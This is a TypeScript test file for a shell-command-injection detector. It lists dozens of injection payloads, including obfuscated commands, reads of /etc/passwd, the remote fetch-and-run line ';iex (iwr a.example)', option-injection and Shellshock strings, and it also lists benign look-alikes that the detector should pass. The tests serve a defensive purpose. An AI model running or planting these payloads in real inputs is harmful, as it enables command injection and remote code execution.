import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { findShell } from './shell.ts';

/** Commands added to a command line, by what makes them one. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  'a separator before a command with arguments': [
    '127.0.0.1; sleep 10',
    'a.png|nl /etc/hosts',
    'test && ping -c 3 10.0.0.1',
    'test | find / -name key',
    "'; cut -d: -f1 /etc/group #",
    '"|dig a.example|"',
    '0;while read l; do echo $l; done < /tmp/a',
    ' ;chmod +x a and so on',
  ],
  'a separator before a command alone': [
    'x;id',
    'x|ls',
    '); pwd',
    'x ;uname and more',
    'test; ps #',
    "'|df|'",
  ],
  'a suffix in a sentence': ['it says id| as the note', 'it says /usr/bin/id| as the note'],
  'a substitution': ['$(id)', 'x$(sleep 3)y', 'a`sleep 3`.png', '<(curl a.example)', '"`uname`"'],
  'a line break': ['x\nsleep 10', '\nid', 'x\r\ncurl a.example'],
  'words in disguise': [
    ";w'h'oami",
    ';who``ami',
    ";i''d",
    ';un\\ame -a',
    ';ca$@t x',
    ';${PATH:0:1}bin${PATH:0:1}id',
    "x;$'\\x69\\x64'",
    ';/???/b?n/i?',
    ';$0<<<id',
    'cu$@rl a.example',
    ';/\\b\\i\\n//s\\h',
  ],
  'names that a pattern or an expansion hides': [
    'cat /etc/pa?swd',
    '/???/c?t /e?c/passwd',
    ';cat /e[tv]c/p[a-z]*d',
    'it says ping$() 10.0.0.1 as the note',
    'it says uname$u -a as the note',
  ],
  'a command that is decoded first': [
    'cat `xxd -r -p <<< 2f61`',
    '$(base64 -d <<< aWQ=)',
    'x$(printf "\\x69d")',
  ],
  'what a command printed': [
    '1;ab=$(echo q);ab1=${#ab}',
    '10.0.0.1\nab=$(id)\nab1=${#ab}\nif [ 2 -eq $ab1 ]',
  ],
  'a program of no list': [
    '10.0.0.1;frobnicate -x',
    'a|frob /etc/a',
    'x && frob >/tmp/a',
    'time; ansible-doc plugin x',
  ],
  'a redirection': ['a.example > /tmp/x.txt'],
  'a shell by its variable': ['echo id|$0'],
  'a comment for whoever has a quote open': ["x #' |id"],
  'words that run others': [
    ';time id',
    '|nohup id',
    ';env X=1 curl a.example',
    ';timeout 5 id',
    '&& sudo rm x',
  ],
  'blanks in disguise': [';cat$IFS/tmp/a', ';{sleep,5}', ';cat</tmp/a', ';curl${IFS}a.example'],
  cmd: [
    'x & w^ho^ami',
    'x & type C:\\a.txt',
    'x|C:\\Windows\\System32\\cmd.exe /c dir',
    'x & %COMSPEC% /c dir',
    '%ProgramFiles:~10,1%dir',
    'if not exist C:\\a cmd',
  ],
  PowerShell: ['x; Start-Sleep -s 5', 'x | Get-ChildItem C:\\', ';iex (iwr a.example)'],
  'calls of a language': ["x');system('id')", '%x(ls)', "os.execute('id')", "a.popen('id')"],
  'options and cells that run': [
    '-oProxyCommand=x',
    '--gpu-launcher="id>/tmp/a"',
    "-o'|id>/tmp/a'",
    "=cmd|'/c calc'!A0",
    '--checkpoint-action=exec=x',
  ],
  'settings of the environment': ['() { :;}; echo x', '() { _; } >_[$($())] { id; }'],
};

describe('shell commands', () => {
  for (const [what, values] of Object.entries(attacks)) {
    describe(`by ${what}`, () => {
      for (const value of values) {
        it(`are found: ${JSON.stringify(value)}`, () => assert.equal(findShell(value)?.attack, 'command'));
      }
    });
  }
});

const content: Readonly<Record<string, readonly string[]>> = {
  'lists of names': [
    'Python; Ruby; Perl',
    'npm | yarn | pnpm',
    'Home | About | History',
    'open|closed|date',
    'string | number | Date',
    'find; sort & cut',
    '| id | cat | who |',
  ],
  'patterns and conditions': [
    '^(name|id)$',
    'price > 5 && date > 2024-01-01 || time < 5',
    'a & b; c | d',
    '{ts,tsx}',
    '; id = first name',
  ],
  templates: [
    '{{ rows | sort(attribute="date") }}',
    '{{ x | date: "%Y" }}',
    'Hello ${name}, ${upper(title)}',
    "$('#id').click(function() { save(); })",
  ],
  'command lines of their own': [
    'git add . && git commit -m "wip"',
    'First run git pull && npm ci before you start',
    'Delete it with rm -rf node_modules && npm install',
    'Set it: export A=b; echo $A',
    'name: ci\nrun: |\n  npm ci',
    'history | grep ssh',
  ],
  'inline code': [
    'Set it first; `ls -la` lists the files.',
    'Try `cat x` & `hostname`',
    'Use `sort` | `uniq`',
  ],
  'words with apostrophes': ["Stay; i'd rather go", "cat's cradle & dog's life", "who's there; that's me"],
  'words with expansions that spell no command': ['x$@i$@d'],
  paths: ['/usr/bin/python3', '/usr/local/bin/node', 'C:\\Windows\\System32'],
};

describe('shell look-alikes', () => {
  for (const [what, values] of Object.entries(content)) {
    describe(`${what} are content`, () => {
      for (const value of values) {
        it(JSON.stringify(value), () => assert.equal(findShell(value)?.rule, undefined));
      }
    });
  }
});
